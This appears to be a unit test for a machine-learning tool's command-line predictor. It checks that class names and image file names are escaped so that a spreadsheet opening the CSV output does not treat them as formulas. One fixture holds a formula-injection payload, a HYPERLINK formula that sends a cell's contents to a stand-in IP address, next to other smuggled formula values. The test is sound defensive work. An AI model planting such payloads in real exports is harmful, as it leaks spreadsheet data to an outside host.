"""What a student or a folder calls things is text where a spreadsheet opens it."""

import csv
from dataclasses import replace
from pathlib import Path

import pytest
import torch
from PIL import Image

from moma_client.cli.main import main
from moma_client.student.files import save_student
from moma_core.models.backbone import Backbone
from moma_core.runtime.csv_text import plain_cell
from moma_core.teacher.card.reference_patch import synthetic_patch
from tests.unit.client.student.test_files import CARD

pytestmark = pytest.mark.usefixtures("small_pictures")

CLASSES = ('=HYPERLINK("http://192.0.2.1/"&A1)', "@SUM(A1)")


def test_no_name_in_a_table_is_a_formula(tmp_path: Path) -> None:
    torch.manual_seed(0)
    card = replace(CARD, class_names=CLASSES)
    save_student(tmp_path / "student", Backbone(CARD.architecture, 2), card)
    (tmp_path / "data").mkdir()
    for name in ("=1+1.png", "-2+3.png", "a.png"):
        picture = Image.fromarray(synthetic_patch(0, 40))
        picture.save(tmp_path / "data" / name)
    line = [f"--{name}={tmp_path / name}" for name in ("student", "data", "out")]

    assert main(["predict", *line]) == 0

    with (tmp_path / "out").open(newline="", encoding="utf-8") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))] == []
    assert {"'=1+1.png", "'-2+3.png", "a.png"} <= set(cells)


@pytest.mark.parametrize("text", ["tumour", "HER2+", "3+4", "", "'=1", "a=b"])
def test_other_names_stay_as_they_are(text: str) -> None:
    assert plain_cell(text) == text
